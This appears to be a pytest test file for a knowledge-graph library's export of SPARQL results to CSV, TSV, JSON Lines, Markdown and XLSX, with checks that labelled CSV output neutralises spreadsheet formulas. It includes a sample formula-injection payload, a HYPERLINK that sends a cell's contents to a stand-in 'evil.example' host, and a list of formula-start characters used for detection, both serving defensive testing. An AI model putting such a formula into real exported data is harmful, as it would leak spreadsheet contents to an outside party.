"""The formats of rows: W3C ones to the byte, labelled ones whole, and none that a spreadsheet could run."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import pyoxigraph
import pytest
from pyoxigraph import QueryResultsFormat

from rltkg.results.labelled import guarded, is_formula, label_columns, spread
from tests.results.asking import answer_over, values_of

if TYPE_CHECKING:
    from rltkg import KnowledgeGraph
    from rltkg.results import Answer

W3C = {"csv": QueryResultsFormat.CSV, "tsv": QueryResultsFormat.TSV, "json": QueryResultsFormat.JSON}
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LABELS = f':a rdfs:label "{EVIL.replace(chr(34), chr(92) + chr(34))}" ; :size -5 ; :note "+1 (555)" , "-5" .'
QUERY = """PREFIX : <http://example.org/>
SELECT ?thing ?size ?note WHERE { ?thing :size ?size ; :note ?note } ORDER BY ?note"""


def parsed(content: bytes) -> list[dict[str, str]]:
    """Return the rows of CSV as a spreadsheet would read them."""
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_w3c_formats_are_the_engines_own_bytes_for_every_query(graph: KnowledgeGraph) -> None:
    engine = graph.store._engine  # type: ignore[attr-defined] # noqa: SLF001 - the raw engine is the yardstick
    seen = 0
    for query in graph.catalogue:
        answer = graph.ask(query.id)
        for form, kind in W3C.items():
            raw = engine.query(answer.text, use_default_graph_as_union=True).serialize(format=kind)

            assert answer.serialize(form) == raw, (query.id, form)
            seen += 1

    assert seen == 3 * len(graph.catalogue) >= 3 * 19


def test_plain_csv_keeps_what_looks_like_a_formula() -> None:
    answer = answer_over(LABELS, "SELECT ?label WHERE { ?thing <http://www.w3.org/2000/01/rdf-schema#label> ?label }")

    assert [row["label"] for row in parsed(answer.serialize("csv"))] == [EVIL]


def test_labelled_csv_and_tsv_disarm_formulas_but_not_numbers() -> None:
    answer = answer_over(LABELS, QUERY)
    rows = parsed(answer.serialize("csv", labels=True))
    tsv = answer.serialize("tsv", labels=True).decode().splitlines()

    assert [row["note"] for row in rows] == ["'+1 (555)", "-5"]
    assert {row["thing_label"] for row in rows} == {"'" + EVIL}
    assert {row["size"] for row in rows} == {"-5"}
    assert tsv[0] == "?thing\t?thing_label\t?size\t?note"
    assert tsv[1].split("\t")[0] == "<http://example.org/a>"
    assert tsv[1].split("\t")[1].startswith("\"'=HYPERLINK(")
    assert tsv[1].split("\t")[2:] == ["-5", '"\'+1 (555)"']


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0=", "\uff1d", "\uff0b", "\uff20"])
def test_every_start_of_a_formula_is_known(start: str) -> None:
    assert is_formula(f"{start}A1")
    assert guarded(f"{start}A1") == f"'{start}A1"


@pytest.mark.parametrize("text", ["", "A1", "-5", "+5.25", "-1e-7", "1=1", "a\tb", "'=A1", "http://example.org/=A1"])
def test_what_is_no_formula_stays(text: str) -> None:
    assert guarded(text) == text


def test_an_ill_formed_number_is_no_number() -> None:
    answer = values_of('"=1+1"^^xsd:integer', '"-5"^^xsd:integer')

    assert [row["value"] for row in parsed(answer.serialize("csv", labels=True))] == ["'=1+1", "-5"]


def test_a_label_column_stands_beside_each_column_of_iris(graph: KnowledgeGraph) -> None:
    seen = 0
    for query in graph.catalogue:
        answer = graph.ask(query.id)
        plain, labelled = parsed(answer.serialize("csv")), parsed(answer.serialize("csv", labels=True))
        names = label_columns(answer)
        seen += len(names)

        assert list(labelled[0]) == spread(answer), query.id
        assert [{name: row[name] for name in answer.columns} for row in labelled] == [
            {name: guarded(cell) for name, cell in row.items()} for row in plain
        ], query.id
        for column, name in names.items():
            assert spread(answer).index(name) == spread(answer).index(column) + 1
            for row in labelled:
                if row[column].startswith("https://w3id.org/rltkg/"):
                    assert row[name] == guarded(answer.labels.get(row[column], "")), "passages have no labels"
                else:
                    assert row[name] == row[column], "what is no IRI is its own label"

    assert seen >= 40


def test_label_columns_do_not_depend_on_the_rows_of_a_canned_query(graph: KnowledgeGraph) -> None:
    some = graph.ask("guidelines_omitting_rlt")
    none = graph.ask("guidelines_omitting_rlt", indication="nen")

    assert len(some) > len(none) == 0
    assert spread(some) == spread(none) == parsed_head(none.serialize("csv", labels=True))
    assert spread(none)[:2] == ["guideline", "guideline_label"]


def parsed_head(content: bytes) -> list[str]:
    """Return the names of the columns of CSV."""
    return next(csv.reader(io.StringIO(content.decode())))


def test_a_column_that_is_called_like_a_label_column_is_kept() -> None:
    answer = answer_over(
        LABELS, 'SELECT ?thing ("mine" AS ?thing_label) WHERE { ?thing <http://example.org/size> ?size }'
    )

    assert spread(answer) == ["thing", "thing_label_", "thing_label"]
    assert parsed(answer.serialize("csv", labels=True))[0]["thing_label"] == "mine"


def json_lines(answer: Answer, *, labels: bool = False) -> list[dict[str, dict[str, str]]]:
    """Return the rows of JSON Lines."""
    return [json.loads(line) for line in answer.serialize("jsonl", labels=labels).decode().splitlines()]


def test_json_lines_hold_what_the_w3c_document_holds(graph: KnowledgeGraph) -> None:
    for query in graph.catalogue:
        answer = graph.ask(query.id)

        assert json_lines(answer) == json.loads(answer.serialize("json"))["results"]["bindings"], query.id
        assert [name for name in spread(answer) if name in json_lines(answer, labels=True)[0]] == list(
            json_lines(answer, labels=True)[0]
        )


def test_json_lines_give_back_every_term() -> None:
    literals = ['"a\\nb\\u2028c"', '"x"@en', "1.50", "true", '"2021-09-09"^^xsd:date', "<http://example.org/é>", "_:b"]
    answer = values_of(*literals)
    found = [row["value"] for row in json_lines(answer)]

    assert len(found) == len(literals), "a line break in a value must not break the line"
    assert found[0] == {"type": "literal", "value": "a\nb\u2028c"}
    assert found[1] == {"type": "literal", "value": "x", "xml:lang": "en"}
    assert found[5] == {"type": "uri", "value": "http://example.org/é"}
    assert found[6]["type"] == "bnode"
    document = {"head": {"vars": ["value"]}, "results": {"bindings": [{"value": each} for each in found]}}
    again = pyoxigraph.parse_query_results(json.dumps(document), format=QueryResultsFormat.JSON)
    assert isinstance(again, pyoxigraph.QuerySolutions)
    assert [solution[0] for solution in again] == [row[0] for row in answer.rows]


def test_json_lines_leave_an_empty_cell_out() -> None:
    answer = answer_over(
        ":a :size 1 . :b :size 2 ; :note 3 .",
        """
        SELECT ?size ?note WHERE { ?s <http://example.org/size> ?size OPTIONAL { ?s <http://example.org/note> ?note } }
        ORDER BY ?size""",
    )

    assert [list(row) for row in json_lines(answer)] == [["size"], ["size", "note"]]


def test_json_lines_are_not_guarded() -> None:
    """An apostrophe there would only spoil the value: no spreadsheet reads this format."""
    assert json_lines(answer_over(LABELS, QUERY), labels=True)[0]["thing_label"]["value"] == EVIL


@pytest.mark.parametrize(("query", "truth"), [("ASK { ?s ?p ?o }", True), ("ASK { ?s ?p ?s }", False)])
def test_an_ask_query_has_one_cell_in_every_format(query: str, truth: bool) -> None:  # noqa: FBT001 - a case of two
    answer = answer_over(":a :b :c .", query)
    word = str(truth).lower()

    assert answer.boolean is truth
    assert answer.named_rows() == [{"answer": word}]
    assert json_lines(answer)[0]["answer"]["value"] == word
    assert answer.serialize("csv", labels=True) == answer.serialize("csv") == word.encode()
    assert word in answer.serialize("md").decode()
    assert answer.serialize("xlsx")[:2] == b"PK"


def test_markdown_shows_names_and_with_labels_both() -> None:
    answer = answer_over(
        ':a rdfs:label "A|a" ; :size 1 .', "SELECT ?thing WHERE { ?thing <http://example.org/size> 1 }"
    )

    assert answer.serialize("md").decode().splitlines()[-1] == "| A\\|a |"
    assert answer.serialize("md", labels=True).decode().splitlines()[-3:] == [
        "| thing | thing label |", "| --- | --- |", "| http://example.org/a | A\\|a |"
    ]  # fmt: skip


def test_other_formats_and_labelled_json_are_refused() -> None:
    answer = values_of("1")

    with pytest.raises(ValueError, match="choose from csv, json, jsonl, md, tsv, xlsx"):
        answer.serialize("xml")
    with pytest.raises(ValueError, match="choose jsonl"):
        answer.serialize("json", labels=True)


def test_triple_terms_are_shown_and_written() -> None:
    """RDF 1.2 has them; a user's file may too."""
    answer = values_of("<<( :a :b :c )>>")
    shown = "<<( <http://example.org/a> <http://example.org/b> <http://example.org/c> )>>"

    assert answer.named_rows() == [{"value": shown}]
    assert shown in answer.serialize("tsv").decode()
    assert shown in answer.to_polars()["value"].to_list()
